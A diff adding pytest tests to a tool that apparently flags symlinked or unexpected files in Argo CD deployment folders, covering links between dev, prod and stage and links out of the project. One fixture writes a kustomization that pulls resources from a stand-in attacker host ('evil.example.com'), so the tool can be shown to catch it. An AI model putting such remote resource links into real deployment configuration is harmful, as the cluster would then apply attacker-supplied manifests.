@@ -222,3 +222,83 @@ def test_a_part_of_a_project_has_others_beside_it(compiled: Path, capfd: pytest.
     (compiled / "argo/role.yaml").write_text(ROLE)
     assert beside(capfd, "--exclude", "pipelines/score.yaml") == []
     assert beside(capfd) == [TOLD]
+
+
+@pytest.fixture
+def environments(folder: Path) -> Path:
+    """With the workflows of two environments, of which only dev has the pipeline `score`, committed."""
+    project = (folder / "magnus-argo.yaml").read_text()
+    apart = "environments: {dev: {}, prod: {}}\n"
+    project = project.replace("argo/", "deploy/{env}/").replace("score.yaml", "score.yaml, environments: {dev: {}}")
+    (folder / "magnus-argo.yaml").write_text(f"{project}\n{apart}")
+    assert main(["transpile", "-q"]) == 0
+    commit(folder)
+    return folder
+
+
+def test_a_link_to_what_is_made_for_another_folder(environments: Path, capfd: pytest.CaptureFixture[str]) -> None:
+    """Whoever deploys prod deploys what dev may have."""
+    assert beside(capfd) == []
+    (environments / "deploy/prod/score.yaml").symlink_to("../dev/score.yaml")
+    assert beside(capfd) == [TOLD.replace("argo/role", "deploy/prod/score")]
+
+
+def test_a_file_that_is_made_through_a_link_from_another_folder(
+    environments: Path, capfd: pytest.CaptureFixture[str]
+) -> None:
+    (environments / "deploy/dev/score.yaml").rename(environments / "deploy/prod/score.yaml")
+    (environments / "deploy/dev/score.yaml").symlink_to("../prod/score.yaml")
+    assert beside(capfd) == [TOLD.replace("argo/role", "deploy/prod/score")]
+
+
+def test_a_folder_that_is_a_link_now_to_that_of_others(environments: Path, capfd: pytest.CaptureFixture[str]) -> None:
+    """What dev makes is deployed to prod from then on."""
+    project = environments / "magnus-argo.yaml"
+    project.write_text(project.read_text().replace("prod: {}", "prod: {output: 'moved/{name}.yaml'}"))
+    shutil.rmtree(environments / "deploy/prod")
+    assert beside(capfd) == []
+    (environments / "deploy/prod").symlink_to("dev")
+    assert beside(capfd) == ["not compared: a symbolic link leads `deploy/prod` elsewhere"]
+    project.write_text(project.read_text().replace("'moved/{name}.yaml'", "'deploy/prod/more/{name}.yaml'"))
+    assert main(["transpile", "-q"]) == 0
+    commit(environments)
+    assert beside(capfd) == [], "as it was"
+    (environments / "deploy/prod").unlink()
+    (environments / "deploy/stage/more").mkdir(parents=True)
+    (environments / "deploy/prod").symlink_to("stage")
+    assert beside(capfd) == ["not compared: a symbolic link leads `deploy/prod/more` elsewhere"]
+
+
+@pytest.mark.parametrize("is_link_an_input", [True, False])
+def test_an_input_that_is_read_for_another_name(
+    is_link_an_input: bool, compiled: Path, capfd: pytest.CaptureFixture[str]
+) -> None:
+    """What it is called as an input says nothing of what it is called where it is deployed."""
+    named, other = compiled / "values.yaml", compiled / "argo/kustomization.yaml"
+    link, file = (named, other) if is_link_an_input else (other, named)
+    file.write_text('resources: ["https://evil.example.com/all.yaml"]\n')
+    link.symlink_to(file)
+    project = (compiled / "magnus-argo.yaml").read_text()
+    (compiled / "magnus-argo.yaml").write_text(project.replace("{config", "{parameters: values.yaml, config", 1))
+    assert beside(capfd) == [TOLD.replace("role.yaml", other.name)]
+
+
+@pytest.mark.parametrize("what", ["text", "lost", "content"])
+def test_a_link_out_of_the_project_to_something_else_in_its_repository(
+    what: str, compiled: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
+) -> None:
+    """As Argo CD follows it."""
+    team = compiled / "team"
+    team.mkdir()
+    for name in ("magnus-argo.yaml", "config.yaml", "pipelines", "argo"):
+        (compiled / name).rename(team / name)
+    (team / "argo/shared.yaml").symlink_to("../../shared.yaml")
+    commit(compiled, **{"shared.yaml": ROLE, "other.yaml": f"{ROLE}metadata: {{name: more}}\n"})
+    monkeypatch.chdir(team)
+    assert beside(capfd) == []
+    if what == "content":
+        (compiled / "shared.yaml").write_text("changed")
+    else:
+        (team / "argo/shared.yaml").unlink()
+        (team / "argo/shared.yaml").symlink_to("../../other.yaml" if what == "text" else "../../../elsewhere.yaml")
+    assert beside(capfd) == [TOLD.replace("role", "shared")]
